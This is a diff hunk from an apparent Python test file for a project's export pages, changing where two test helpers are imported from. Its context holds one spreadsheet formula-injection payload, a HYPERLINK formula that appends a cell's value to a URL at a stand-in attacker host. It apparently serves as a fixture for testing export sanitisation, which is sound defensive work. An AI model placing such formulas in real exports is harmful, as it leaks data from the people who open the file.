@@ -15,7 +15,7 @@ from pbxhub.store.webhooks import Webhook
 from pbxhub.web.pages.exports import harmless
 from pbxhub.webhooks.spec import RequestSpec, WebhookSpec
 from pbxhub.wsgi.current import now
-from tests.web.conftest import Browser, People
+from tests.support.people import Browser, People
 
 RUN = '=HYPERLINK("https://evil.example/?"&A1)'
 
